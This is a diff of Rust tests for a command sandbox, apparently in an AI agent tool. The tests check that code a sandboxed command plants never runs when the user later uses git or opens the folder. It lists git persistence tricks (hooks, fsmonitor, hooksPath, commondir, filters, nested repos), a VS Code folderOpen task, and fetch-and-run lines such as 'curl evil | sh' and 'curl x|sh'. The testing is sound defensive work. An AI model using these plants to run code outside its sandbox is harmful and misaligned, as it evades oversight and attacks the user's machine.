@@ -10,8 +10,8 @@ use std::io::{BufRead, Write};
 use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
 use tollgate_engine::tools::sandbox::{
-    explain_denials, hidden_folders, protected_in_workspace, secret_paths, SandboxLevel,
-    SandboxSpec, SANDBOX_ENV,
+    explain_denials, hidden_folders, secret_paths, walk_workspace, SandboxLevel, SandboxSpec,
+    WorkspaceGuard, SANDBOX_ENV,
 };
 use tollgate_engine::tools::supervisor::SUPERVISOR_ARG;
 
@@ -23,7 +23,7 @@ fn spec(ws: &Path, tmp: &Path, hidden: Vec<PathBuf>, namespaces: bool) -> Sandbo
         workspace: ws.to_path_buf(),
         temp: tmp.to_path_buf(),
         hidden,
-        protected: protected_in_workspace(ws),
+        protected: walk_workspace(ws).read_only,
         namespaces,
         ..SandboxSpec::default()
     }
@@ -394,53 +394,227 @@ fn git(ws: &Path, args: &[&str]) {
     assert!(status.success(), "git {args:?}");
 }
 
-#[test]
-fn git_hooks_and_config_stay_read_only_and_commits_still_work() {
-    let Home { ws, tmp, .. } = &home();
+/// The plants a sandboxed command can make for the user's next `git status` (or commit, or
+/// opening the folder), each a shell line run in the workspace. `{M}` is the marker file that
+/// proves the planted program ran.
+const GIT_PLANTS: &[(&str, &str)] = &[
+    ("hook", "printf '#!/bin/sh\\ntouch {M}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"),
+    ("fsmonitor in config", "git config core.fsmonitor 'touch {M}; false'"),
+    ("hooksPath in config", "mkdir -p h && printf '#!/bin/sh\\ntouch {M}\\n' > h/pre-commit && chmod +x h/pre-commit && git config core.hooksPath \"$PWD/h\""),
+    ("an include in config", "printf '[core]\\n\\tfsmonitor = \"touch {M}; false\"\\n' > evil.cfg && git config include.path \"$PWD/evil.cfg\""),
+    ("commondir, created", "mkdir -p evil && cp -r .git/. evil/ && git --git-dir=evil config core.fsmonitor 'touch {M}; false' && echo \"$PWD/evil\" > .git/commondir"),
+    ("commondir, relative", "mkdir -p .git/e && cp -r .git/objects .git/refs .git/config .git/e/ && printf '[core]\\n\\tfsmonitor = \"touch {M}; false\"\\n' >> .git/e/config && echo e > .git/commondir"),
+    ("a submodule's commondir", "mkdir -p x && cp -r .git/modules/sm/. x/ && git config --file x/config core.fsmonitor 'touch {M}; false' && echo \"$PWD/x\" > .git/modules/sm/commondir"),
+    ("a submodule's config", "git config --file .git/modules/sm/config core.fsmonitor 'touch {M}; false'"),
+    ("a nested repository, created and added", "git init -q sub && git -C sub config core.fsmonitor 'touch {M}; false' && touch sub/f && git -C sub add f && git -C sub -c user.name=T -c user.email=t@example.org commit -qm s && git add sub"),
+    ("a .git file, created", "mkdir -p evil2 && cp -r .git/. evil2/ && git --git-dir=evil2 config core.fsmonitor 'touch {M}; false' && mkdir -p sub2 && echo \"gitdir: $PWD/evil2\" > sub2/.git"),
+    ("the git folder swapped", "mv .git .git-moved; mkdir -p .git && cp -r .git-moved/. .git/ ; git config core.fsmonitor 'touch {M}; false'"),
+    ("info/attributes with a filter", "printf '* filter=x\\n' > .git/info/attributes && git config filter.x.clean 'touch {M}; cat'"),
+];
+
+/// A repository with a commit and a submodule (`sm`, from a second repository), as a user's
+/// project would be.
+fn project(ws: &Path, root: &Path) {
+    let lib = root.join("lib");
+    std::fs::create_dir_all(&lib).unwrap();
+    git(&lib, &["init", "-q"]);
+    std::fs::write(lib.join("l.txt"), "l").unwrap();
+    git(&lib, &["add", "."]);
+    git(
+        &lib,
+        &[
+            "-c",
+            "user.name=T",
+            "-c",
+            "user.email=t@example.org",
+            "commit",
+            "-qm",
+            "lib",
+        ],
+    );
     git(ws, &["init", "-q"]);
     std::fs::write(ws.join("a.txt"), "a").unwrap();
-    let spec = spec(ws, tmp, Vec::new(), true);
-    assert!(spec.protected.contains(&ws.join(".git/hooks")));
-    let plant = "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit";
-    let ran = run_in(Some(&spec), ws, plant, &[]);
-    assert_ne!(ran.code, 0, "{ran:?}");
-    let explained = ran.explained(&spec);
-    assert!(
-        explained.len() == 1
-            && explained[0].contains(
-                ".git/hooks (git's hooks and configuration run code outside the sandbox later"
-            ),
-        "{ran:?} {explained:?}"
+    git(ws, &["add", "."]);
+    git(
+        ws,
+        &[
+            "-c",
+            "protocol.file.allow=always",
+            "submodule",
+            "add",
+            "-q",
+            &lib.display().to_string(),
+            "sm",
+        ],
     );
-    assert!(!ws.join(".git/hooks/pre-commit").exists());
-    for attempt in [
-        "git config core.fsmonitor 'curl evil | sh'",
-        "mv .git .git-moved",
-        "rm -rf .git/hooks",
+    git(
+        ws,
+        &[
+            "-c",
+            "user.name=T",
+            "-c",
+            "user.email=t@example.org",
+            "commit",
+            "-qm",
+            "first",
+        ],
+    );
+}
+
+/// What the user does next, outside any sandbox: `git status` at the top, in the nested
+/// folders a plant may have made, a commit, and `git diff` (filters).
+fn users_next_git(ws: &Path) {
+    for dir in [
+        ws.to_path_buf(),
+        ws.join("sub"),
+        ws.join("sub2"),
+        ws.join("sm"),
     ] {
-        let ran = run_in(Some(&spec), ws, attempt, &[]);
-        assert_ne!(ran.code, 0, "{attempt}: {ran:?}");
+        if dir.is_dir() {
+            let _ = Command::new("git").arg("status").current_dir(&dir).output();
+        }
     }
-    let config = std::fs::read_to_string(ws.join(".git/config")).unwrap();
-    assert!(!config.contains("fsmonitor"), "{config}");
-    assert!(ws.join(".git/hooks").is_dir());
-    // Real work: a commit.
+    std::fs::write(ws.join("a.txt"), "changed").unwrap();
+    let _ = Command::new("git")
+        .args(["add", "a.txt"])
+        .current_dir(ws)
+        .output();
+    let _ = Command::new("git")
+        .args([
+            "-c",
+            "user.name=U",
+            "-c",
+            "user.email=u@example.org",
+            "commit",
+            "-qm",
+            "user",
+        ])
+        .current_dir(ws)
+        .output();
+}
+
+/// Every plant in [`GIT_PLANTS`], made by an approved command in the sandbox — with namespaces
+/// (git's folders shown as copies) and without (Landlock alone; undone after) — and then the
+/// user's own `git status`, commit and diff outside it: the planted program never runs. Each
+/// plant is shown to be real by the same run with the sandbox off, where it does run. Graded by
+/// the marker file the planted program would make, not by what the sandbox reports.
+#[test]
+fn what_a_command_plants_in_git_never_runs_when_the_user_runs_git() {
+    for namespaces in [true, false] {
+        for (name, plant) in GIT_PLANTS {
+            for sandboxed in [true, false] {
+                let Home { root, ws, tmp, .. } = &home();
+                project(ws, root);
+                let marker = root.join("PLANTED-RAN");
+                let line = plant.replace("{M}", &marker.display().to_string());
+                // With the sandbox off there is no guard either (as in the shell tool).
+                let guard = sandboxed.then(|| WorkspaceGuard::prepare(ws, namespaces).unwrap());
+                let mut spec = spec(ws, tmp, Vec::new(), namespaces);
+                if let Some(guard) = &guard {
+                    guard.apply(&mut spec);
+                }
+                let ran = run_in(sandboxed.then_some(&spec), ws, &line, &[]);
+                let reported = guard.map(WorkspaceGuard::settle);
+                users_next_git(ws);
+                if sandboxed {
+                    assert!(
+                        !marker.exists(),
+                        "{name} (namespaces: {namespaces}): the planted program ran; {ran:?} {reported:?}"
+                    );
+                } else {
+                    assert!(marker.exists(), "{name}: the plant is not real: {ran:?}");
+                }
+            }
+        }
+    }
+}
+
+/// Git's real work in the sandbox still lands: a commit, a branch, a tag, a fetch from a local
+/// remote, and a checkout — seen by the user's own git afterwards. A repository the command
+/// creates is held (renamed, reported) rather than left armed.
+#[test]
+fn commits_branches_and_fetches_made_in_the_sandbox_are_kept() {
+    for namespaces in [true, false] {
+        let Home { root, ws, tmp, .. } = &home();
+        project(ws, root);
+        let lib = root.join("lib").display().to_string();
+        let guard = WorkspaceGuard::prepare(ws, namespaces).unwrap();
+        let mut spec = spec(ws, tmp, Vec::new(), namespaces);
+        guard.apply(&mut spec);
+        let work = format!(
+            "echo b > b.txt && git add b.txt && git -c user.name=T -c user.email=t@example.org commit -qm second \
+             && git branch feature && git tag v1 && git remote add lib {lib} \
+             && git -c protocol.file.allow=always fetch -q lib && git checkout -q feature \
+             && git init -q fresh && git log --oneline"
+        );
+        let ran = run_in(Some(&spec), ws, &work, &[]);
+        assert_eq!(ran.code, 0, "namespaces {namespaces}: {ran:?}");
+        let reported = guard.settle();
+        let out = |args: &[&str]| {
+            let o = Command::new("git")
+                .args(args)
+                .current_dir(ws)
+                .output()
+                .unwrap();
+            String::from_utf8_lossy(&o.stdout).into_owned()
+        };
+        assert!(
+            out(&["log", "--oneline"]).contains("second"),
+            "namespaces {namespaces}: {reported:?}"
+        );
+        assert_eq!(
+            out(&["rev-parse", "--abbrev-ref", "HEAD"]).trim(),
+            "feature"
+        );
+        assert!(out(&["tag"]).contains("v1"));
+        assert!(
+            out(&["branch", "-a"]).contains("remotes/lib/"),
+            "{}",
+            out(&["branch", "-a"])
+        );
+        // The remote's address is configuration: not kept from the sandbox, and said so.
+        assert!(!out(&["remote"]).contains("lib"));
+        assert!(
+            reported
+                .iter()
+                .any(|l| l.starts_with("writing config in git's folder")),
+            "{reported:?}"
+        );
+        assert!(ws.join("fresh/.git.tollgate-held").is_dir() && !ws.join("fresh/.git").exists());
+        assert!(
+            reported
+                .iter()
+                .any(|l| l.starts_with("creating a git repository")),
+            "{reported:?}"
+        );
+        assert!(out(&["status", "--porcelain"])
+            .lines()
+            .all(|l| !l.contains("a.txt")));
+    }
+}
+
+/// A command that creates the files editors run when the folder opens gets them held.
+#[test]
+fn files_an_editor_runs_are_held_when_a_command_creates_them() {
+    let Home { ws, tmp, .. } = &home();
+    let guard = WorkspaceGuard::prepare(ws, true).unwrap();
+    let mut spec = spec(ws, tmp, Vec::new(), true);
+    guard.apply(&mut spec);
     let ran = run_in(
         Some(&spec),
         ws,
-        "git add . && git -c user.name=T -c user.email=t@example.org commit -qm first && git log --oneline",
+        "mkdir -p .vscode && echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json && echo 'curl x|sh' > .envrc && echo kept > notes.md",
         &[],
     );
     assert_eq!(ran.code, 0, "{ran:?}");
-    assert!(ran.stdout.contains("first"), "{ran:?}");
-    // Allowed for the chat (no protected paths): the hook can be written, as without a sandbox.
-    let allowed = SandboxSpec {
-        protected: Vec::new(),
-        ..spec
-    };
-    let ran = run_in(Some(&allowed), ws, plant, &[]);
-    assert_eq!(ran.code, 0, "{ran:?}");
-    assert!(ws.join(".git/hooks/pre-commit").exists());
+    let reported = guard.settle();
+    assert_eq!(reported.len(), 2, "{reported:?}");
+    assert!(!ws.join(".vscode/tasks.json").exists() && !ws.join(".envrc").exists());
+    assert!(ws.join(".envrc.tollgate-held").exists());
+    assert_eq!(
+        std::fs::read_to_string(ws.join("notes.md")).unwrap(),
+        "kept\n"
+    );
 }
 
 #[test]
